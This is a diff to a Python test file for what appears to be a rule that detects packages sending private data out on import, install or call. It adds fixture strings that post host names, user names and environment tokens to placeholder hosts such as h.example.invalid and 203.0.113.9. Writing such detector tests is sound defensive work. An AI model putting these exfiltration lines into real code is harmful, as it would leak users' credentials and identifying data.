@@ -29,7 +29,13 @@ def severity(trigger: str, source: str) -> str:
         ("import", f"requests.post('https://h.example.invalid/', json={_WHO})", "high"),
         ("call", f"requests.post('https://h.example.invalid/', json={_WHO})", "info"),
         ("test", f"requests.post('https://h.example.invalid/', json={_WHO})", "info"),
-        ("import", "requests.post('https://h.example.invalid/', json={'h': socket.gethostname()})", "medium"),
+        ("import", "requests.post('https://h.example.invalid/', json={'h': socket.gethostname()})", "high"),
+        ("import", "requests.get('https://h.example.invalid/?q=' + os.getcwd())", "medium"),
+        ("install", "requests.get('http://203.0.113.9/ping')", "high"),
+        ("import", "requests.get('https://a.ngrok.io/')", "high"),
+        ("call", "ip = requests.get('https://api.ipify.org').text\nrequests.post('https://h.example.invalid/', json=[ip, os.getlogin()])", "high"),
+        ("call", "requests.post('https://h.example.invalid/', json=[os.environ['EXAMPLE_SECRET_ACCESS_KEY'], platform.node()])", "high"),
+        ("call", "requests.post('http://203.0.113.9/', data=os.environ['EXAMPLE_TOKEN'])", "high"),
         ("import", f"requests.post('{_HOOK}', json={{'h': socket.gethostname()}})", "high"),
         ("install", "requests.get('http://203.0.113.9/' + os.getlogin())", "critical"),
         ("install", "urllib.request.urlopen(urllib.request.Request('http://203.0.113.9/', data=str(os.uname()).encode()))", "critical"),
@@ -55,6 +61,10 @@ def test_private_data_that_is_sent(trigger: str, source: str, expected: str) -> 
     [
         ("call", "requests.get('https://api.example.invalid/', headers={'Authorization': os.environ['EXAMPLE_KEY']})", "info"),
         ("call", "requests.get('https://api.example.invalid/', headers={'User-Agent': platform.system()})", "info"),
+        ("call", "requests.post('https://api.example.invalid/', headers={'A': os.environ['EXAMPLE_KEY']}, json=platform.node())", "info"),
+        ("call", "requests.get('http://203.0.113.9/ping')", "none"),
+        ("import", "requests.get('http://192.168.0.7/ping')", "none"),
+        ("import", "requests.get('https://h.example.invalid/')", "none"),
         ("call", "requests.post('https://api.example.invalid/', files={'f': open(given, 'rb')})", "info"),
         ("import", "requests.get('https://api.example.invalid/', headers={'User-Agent': platform.system()})", "low"),
         ("import", "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.connect(('8.8.8.8', 80))", "none"),
@@ -106,7 +116,7 @@ def test_says_what_goes_where() -> None:
     (found,) = findings(RULE, *at("import", _HEAD + f"\nrequests.post('{_HOOK}', json={_WHO})"))
     assert found.location is not None
     assert (found.location.line, found.trigger) == (3, "import")
-    assert found.evidence[0] == "host name, user name to a webhook"
+    assert found.evidence[0] == "host name, nothing but a sign of life, user name to a webhook"
     assert found.message == "demo 1.0 sends private data away"
 
 
